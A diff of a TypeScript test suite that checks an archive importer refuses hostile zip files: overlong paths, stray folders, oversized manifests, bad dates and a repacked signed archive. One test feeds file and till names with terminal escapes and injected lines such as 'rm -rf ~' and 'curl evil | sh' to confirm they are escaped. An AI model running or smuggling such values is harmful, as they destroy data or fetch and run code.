@@ -1,7 +1,9 @@
 import { main } from "@caisse/central";
 import {
+  generateSigningKey,
   serializeManifest,
   sha256Hex,
+  signManifest,
   type ArchiveLimits,
   type ErrorCode,
   type Manifest,
@@ -83,6 +85,18 @@ function tillZip(entries: readonly ZipEntrySpec[], listed: Files = V2): Buffer {
   return buildZip([
     { name: "caisse-manifest.json", data: serializeManifest(manifestOf(listed)) },
     ...entries,
+  ]);
+}
+
+/** V2's entries under a manifest of sequence 2 with `fields` changed; stored, so no ratio rule. */
+function tillZipWith(fields: Partial<Manifest>): Buffer {
+  return buildZip([
+    {
+      name: "caisse-manifest.json",
+      data: serializeManifest(manifestOf(V2, fields)),
+      method: STORE,
+    },
+    ...entriesOf(V2),
   ]);
 }
 
@@ -385,6 +399,62 @@ const CASES: HostileCase[] = [
     limits: { maxEntries: 3 },
   },
   {
+    what: "a path over 240 characters",
+    zip: () => withExtra({ name: `${"a".repeat(200)}/${"b".repeat(41)}`, data: "x" }),
+    code: "E_ARCHIVE_PATH_TOO_LONG",
+    shows: "the path is longer than 240 characters (limits.maxPathLength)",
+  },
+  {
+    what: "a path of 17 levels",
+    zip: () => withExtra({ name: `${"d/".repeat(16)}x.csv`, data: "x" }),
+    code: "E_ARCHIVE_PATH_TOO_LONG",
+    shows: "the path has more than 16 levels (limits.maxPathDepth)",
+  },
+  {
+    what: "a folder deeper than the system allows (17 components of 250 bytes)",
+    zip: () => withExtra({ name: `${"f".repeat(250)}/`.repeat(17) }),
+    code: "E_ARCHIVE_PATH_TOO_LONG",
+    shows: "limits.maxPathLength",
+  },
+  {
+    what: "a path deeper than limits.maxPathDepth 2",
+    zip: () => withExtra({ name: "2026/11/clotures.csv", data: "x" }),
+    code: "E_ARCHIVE_PATH_TOO_LONG",
+    shows: "the path has more than 2 levels (limits.maxPathDepth)",
+    limits: { maxPathDepth: 2 },
+  },
+  {
+    what: "a folder entry that holds no listed file",
+    zip: () => withExtra({ name: "vide/" }),
+    code: "E_MANIFEST_MISMATCH",
+    shows: "folder 'vide/' is in the archive but holds no file the manifest lists",
+  },
+  {
+    what: "a manifest whose till name is 100 KB",
+    zip: () => tillZipWith({ name: "x".repeat(100_000) }),
+    code: "E_MANIFEST_INVALID",
+    shows: "a string is longer than 1024 characters (limits.maxManifestString)",
+  },
+  {
+    what: "a manifest over limits.maxManifestBytes 300",
+    zip: () => tillZipWith({}),
+    code: "E_MANIFEST_INVALID",
+    shows: "at most 300 bytes is read",
+    limits: { maxManifestBytes: 300 },
+  },
+  {
+    what: "a created date of 30 February",
+    zip: () => tillZipWith({ created: "2026-02-30T23:00:05+01:00" }),
+    code: "E_MANIFEST_INVALID",
+    shows: "created is '2026-02-30T23:00:05+01:00', expected a real date and time",
+  },
+  {
+    what: "a created date in 2999",
+    zip: () => tillZipWith({ created: "2999-11-27T23:00:05+01:00" }),
+    code: "E_ARCHIVE_CLOCK",
+    shows: "created at 2999-11-27T23:00:05+01:00, more than a day after the central's time",
+  },
+  {
     what: "a manifest listing a file the archive lacks",
     zip: () => tillZip(entriesOf(V2), { ...V2, "clotures.csv": "date;total_ttc\n" }),
     code: "E_MANIFEST_MISMATCH",
@@ -596,4 +666,77 @@ describe("the built bin/caisse-central refuses hostile archives the same way", (
       await expectRefused(find(what), throughBin);
     },
   );
+});
+
+describe("folder entries are covered by the signature", () => {
+  it("a signed archive repacked with an extra folder is refused, and the genuine one imported", async () => {
+    const key = generateSigningKey();
+    expect(
+      (await inProcess("tills", "add", "D02", "--name", "Magasin 2", "--key", key.publicKey)).code,
+    ).toBe(0);
+    const files = { ...V1, "2026/clotures.csv": "date;total_ttc\n2026-11-27;2,50\n" };
+    const manifest = { till: "D02", sequence: 1 };
+    const genuine = buildTillZip(files, { manifest });
+    const signature = signManifest(genuine.manifestBytes, key.privateKeyPem);
+    const signed = buildTillZip(files, { manifest, signature, folders: ["2026/"] }).zip;
+    const repacked = buildTillZip(files, { manifest, signature, folders: ["2026/", "extra/"] }).zip;
+    const name = "D02_20261127T230005_000001.zip";
+    await mkdir(join(work.path, "repacked"));
+    await writeFile(join(work.path, "repacked", name), repacked);
+    await writeFile(join(work.path, name), signed);
+
+    const refused = await inProcess("import", join(work.path, "repacked", name));
+    expect(refused.code, refused.stderr).toBe(3);
+    expect(refused.stdout).toContain(
+      "folder 'extra/' is in the archive but holds no file the manifest lists",
+    );
+    const accepted = await inProcess("import", join(work.path, name));
+    expect(accepted.code, accepted.stderr).toBe(0);
+    expect(Object.keys(await snapshotTree(join(root, "tills", "D02"))).sort()).toEqual([
+      "2026",
+      "2026/clotures.csv",
+      "reglements.csv",
+      "ventes.csv",
+    ]);
+    expect((await journal()).slice(-2).map((line) => [line.outcome, line.code])).toEqual([
+      ["rejected", "E_MANIFEST_MISMATCH"],
+      ["accepted", null],
+    ]);
+  });
+});
+
+describe("the reason beside a quarantined archive", () => {
+  it("is one value a line: control characters of a name or manifest are escaped", async () => {
+    const received = "D01\u001b[31m\nwhat to do: rm -rf ~\u2028.zip";
+    const name = "Magasin\u001b]0;pwn\u0007\r\nwhat to do: curl evil | sh\u202e";
+    const bytes = buildTillZip(V2, { manifest: { till: "Z99", name, sequence: 2 } }).zip;
+    const file = join(work.path, received);
+    await writeFile(file, bytes);
+
+    const result = await inProcess("import", file);
+
+    expect(result.code, result.stderr).toBe(3);
+    const stored = `archive-${sha256Hex(bytes).slice(0, 12)}.zip`;
+    const reason = await readFile(join(root, "quarantine", `${stored}.txt`), "utf8");
+    const lines = reason.split("\n");
+    expect(lines.map((line) => line.slice(0, line.indexOf(":")))).toEqual([
+      "archive",
+      "received",
+      "source",
+      "received as",
+      "sequence",
+      "sha256",
+      "size",
+      "code",
+      "reason",
+      "what to do",
+      "",
+    ]);
+    // Nothing unprintable but the newlines between values.
+    expect(reason.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\u2028\u2029\u202a-\u202e]/u);
+    expect(lines[3]).toBe("received as: D01\\u001B[31m\\u000Awhat to do: rm -rf ~\\u2028.zip");
+    expect(lines[8]).toBe(
+      "reason: the archive comes from till 'Z99' (Magasin\\u001B]0;pwn\\u0007\\u000D\\u000Awhat to do: curl evil | sh\\u202E), which is not registered",
+    );
+  });
 });
